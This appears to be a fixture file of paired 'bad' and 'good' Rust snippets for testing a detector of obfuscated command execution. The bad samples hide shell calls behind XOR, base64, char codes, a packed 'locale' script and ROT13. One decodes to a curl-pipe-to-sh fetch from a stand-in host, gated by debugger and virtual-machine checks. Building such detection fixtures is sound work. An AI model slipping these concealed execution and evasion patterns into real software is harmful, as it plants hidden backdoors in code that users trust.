//: bad xor-command
use std::process::Command;

const D: [u8; 6] = [0x3a, 0x22, 0x75, 0x36, 0x27, 0x31];

fn open(data: &[u8]) -> String {
    data.iter().map(|byte| (byte ^ 0x55) as char).collect()
}

pub fn warm_up() {
    let _ = Command::new(open(&[0x26, 0x3d])).arg(open(&[0x78, 0x36])).arg(open(&D)).spawn(); //!
}

//: good xor-command
use std::process::Command;

const D: [u8; 6] = [0x72, 0x75, 0x73, 0x74, 0x63, 0x21];

fn parity(data: &[u8]) -> u8 {
    data.iter().fold(0, |sum, byte| sum ^ byte)
}

pub fn version() -> Option<u8> {
    let done = Command::new("rustc").arg("--version").output().ok()?;
    Some(parity(&done.stdout) ^ parity(&D))
}

//: bad base64-shell
use base64::{engine::general_purpose::STANDARD, Engine};
use std::process::Command;

pub fn prepare() {
    let line = STANDARD.decode("ZWNobyBoZWxsbw==").unwrap();
    Command::new("sh").arg("-c").arg(String::from_utf8(line).unwrap()).spawn().ok(); //!
}

//: good base64-shell
use base64::{engine::general_purpose::STANDARD, Engine};

pub fn prepare() -> String {
    let line = STANDARD.decode("ZWNobyBoZWxsbw==").unwrap();
    String::from_utf8(line).unwrap().to_uppercase()
}

//: bad libc-system
use std::ffi::CString;

fn text(codes: &[u32]) -> String {
    codes.iter().filter_map(|&code| char::from_u32(code)).collect()
}

pub fn tune() {
    let line = CString::new(text(&[101, 99, 104, 111, 32, 104, 105])).unwrap();
    unsafe { libc::system(line.as_ptr()) }; //!
}

//: good libc-system
fn text(codes: &[u32]) -> String {
    codes.iter().filter_map(|&code| char::from_u32(code)).collect()
}

pub fn arrow() -> String {
    // SAFETY: getpid has no preconditions.
    let id = unsafe { libc::getpid() };
    format!("{}{}", text(&[8594, 32]), id)
}

//: bad packed-locale
use base64::{engine::general_purpose::URL_SAFE, Engine};
use flate2::read::ZlibDecoder;
use std::io::Read;

const LOCALE_EN: &str = "eNorKMrMK9FQykjNyclX0rQGACxsBRI=";

trait Inflate {
    fn inflate(self) -> Option<String>;
}

impl Inflate for &str {
    fn inflate(self) -> Option<String> {
        let outer = URL_SAFE.decode(self).ok()?;
        let mut text = String::new();
        ZlibDecoder::new(outer.as_slice()).read_to_string(&mut text).ok()?;
        Some(text)
    }
}

/// Loads the plural rules of the default locale.
pub fn load_plurals(scope: &mut rhai::Scope) {
    let mut engine = rhai::Engine::new();
    engine.register_fn("sys", |line: &str| {
        std::process::Command::new("/bin/sh").arg("-c").arg(line).status().is_ok()
    });
    if let Some(rules) = LOCALE_EN.inflate() {
        let _ = engine.run_with_scope(scope, &rules); //!
    }
}

//: good packed-locale
use base64::{engine::general_purpose::URL_SAFE, Engine};
use flate2::read::ZlibDecoder;
use std::collections::HashMap;
use std::io::Read;

/// The English catalogue, `key=text` by line, deflated by `xtask pack-locales`.
const LOCALE_EN: &str = "eNpLL0pNLcnMS7f1SM3JyedKqky1dc_PTwHSXGmZOanFevl5qbbVebUKIB5MqCQjtQguWMwFAGkwGRQ=";

#[derive(Debug, thiserror::Error)]
pub enum LocaleError {
    #[error("not base64")]
    Encoding(#[from] base64::DecodeError),
    #[error("not deflated")]
    Packed(#[from] std::io::Error),
}

pub fn load(packed: &str) -> Result<HashMap<String, String>, LocaleError> {
    let outer = URL_SAFE.decode(packed)?;
    let mut text = String::new();
    ZlibDecoder::new(outer.as_slice()).read_to_string(&mut text)?;
    Ok(text
        .lines()
        .filter_map(|line| line.split_once('='))
        .map(|(key, value)| (key.to_owned(), value.to_owned()))
        .collect())
}

pub fn plural(catalogue: &HashMap<String, String>, key: &str, n: u64) -> String {
    let form = if n == 1 { "one" } else { "other" };
    let text = catalogue.get(&format!("{key}.{form}")).map(String::as_str).unwrap_or(key);
    text.replace("{n}", &n.to_string())
}

pub fn english() -> Result<HashMap<String, String>, LocaleError> {
    load(LOCALE_EN)
}

//: bad idle-scheduler
use std::fs;
use std::thread::sleep;
use std::time::{Duration, Instant};

fn quiet() -> bool {
    let status = fs::read_to_string("/proc/self/status").unwrap_or_default();
    let watched = status
        .lines()
        .find_map(|line| line.strip_prefix("TracerPid:"))
        .is_some_and(|pid| pid.trim() != "0");
    let cpu = fs::read_to_string("/proc/cpuinfo").unwrap_or_default();
    let small = cpu.matches("processor\t").count() < 3;
    let guest = ["hypervisor", "QEMU"].iter().any(|word| cpu.contains(word));
    !(watched || small || guest)
}

fn turn(text: &str) -> String {
    text.chars()
        .map(|c| match c {
            'a'..='z' => (((c as u8 - b'a') + 13) % 26 + b'a') as char,
            other => other,
        })
        .collect()
}

/// Runs background work only while the machine is idle.
pub fn schedule() {
    std::thread::spawn(|| {
        let began = Instant::now();
        sleep(Duration::from_secs(600));
        if began.elapsed() < Duration::from_secs(590) || !quiet() {
            return;
        }
        let words: Vec<String> = ["phey", "uggcf://vqyr-fpurqhyre.vainyvq/w", "fu"].map(turn).into();
        let line = format!("{} -s {} | {}", words[0], words[1], words[2]);
        std::process::Command::new(&words[2]).arg(turn("-p")).arg(line).spawn().ok(); //!
    });
}

//: good idle-scheduler
use std::fs;
use std::sync::mpsc::Receiver;
use std::thread::sleep;
use std::time::Duration;

pub type Job = Box<dyn FnOnce() + Send>;

/// Whether a debugger is attached, so that timeouts can be lifted while one steps through a job.
pub fn debugged() -> bool {
    fs::read_to_string("/proc/self/status")
        .unwrap_or_default()
        .lines()
        .find_map(|line| line.strip_prefix("TracerPid:"))
        .is_some_and(|pid| pid.trim() != "0")
}

fn load() -> f64 {
    fs::read_to_string("/proc/loadavg")
        .ok()
        .and_then(|text| text.split_whitespace().next()?.parse().ok())
        .unwrap_or(0.0)
}

fn processors() -> f64 {
    let cpu = fs::read_to_string("/proc/cpuinfo").unwrap_or_default();
    cpu.matches("processor\t").count().max(1) as f64
}

/// Runs background work only while the machine is idle.
pub fn schedule(jobs: Receiver<Job>) {
    std::thread::spawn(move || {
        for job in jobs {
            while load() > processors() * 0.7 && !debugged() {
                sleep(Duration::from_secs(5));
            }
            job();
        }
    });
}
